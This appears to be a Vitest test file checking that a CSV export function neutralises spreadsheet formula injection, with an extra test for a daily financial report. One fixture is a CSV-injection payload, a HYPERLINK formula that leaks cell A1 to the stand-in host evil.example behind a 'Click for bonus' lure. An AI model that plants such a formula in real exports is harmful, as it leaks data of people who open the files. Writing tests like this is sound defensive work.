import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { reportCsv } from '../areas/reports';
import { toCsv } from './csv';

// Issue 27 item 5: no export carries a spreadsheet formula (OWASP CSV injection).
describe('toCsv', () => {
  const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for bonus")';

  it('neutralises every formula start with a leading apostrophe and quotes the cell', () => {
    const text = toCsv(
      ['name'],
      [[evil], ['+8801711000001'], ['-2+3'], ['@SUM(A1:A9)'], ['\tcmd'], ['\r=1'], ['plain'], ['a "quoted", name']],
    );
    const lines = text.split('\r\n');
    expect(lines[0]).toBe('name');
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for bonus"")"`);
    expect(lines[2]).toBe(`"'+8801711000001"`);
    expect(lines[3]).toBe(`"'-2+3"`);
    expect(lines[4]).toBe(`"'@SUM(A1:A9)"`);
    expect(lines[5]).toBe(`"'\tcmd"`);
    expect(text).toContain(`"'\r=1"`);
    expect(text).toContain('\r\nplain\r\n');
    expect(text).toContain('"a ""quoted"", name"');
    // read back: every cell is text that starts with the apostrophe, the value itself intact after it
    const back = Papa.parse<string[]>(text, { newline: '\r\n' })
      .data.slice(1)
      .map((r) => r[0]);
    expect(back[0]).toBe(`'${evil}`);
    expect(back.slice(0, 5).every((v) => v!.startsWith("'"))).toBe(true);
  });

  it('keeps numbers and plain negative amounts as numbers', () => {
    expect(toCsv(['a', 'b', 'c', 'd'], [[-5, '-120.00', '120.50', null]])).toBe('a,b,c,d\r\n-5,-120.00,120.50,');
  });

  it('escapes the headers too', () => {
    expect(toCsv(['=1+1'], []).startsWith(`"'=1+1"`)).toBe(true);
  });

  it('the daily report goes through it (negative figures stay numbers)', () => {
    const text = reportCsv({
      from: '2026-01-01',
      to: '2026-01-01',
      rows: [
        {
          day: '2026-01-01',
          currency: 'BDT',
          deposits: '100.00',
          withdrawals: '0.00',
          casino_ggr: '-50.00',
          exchange_commission: '0.00',
          bonus_cost: '0.00',
        },
      ],
    } as never);
    expect(text.split('\r\n')[1]).toContain('-50.00');
    expect(text).not.toContain("'-50.00");
  });
});
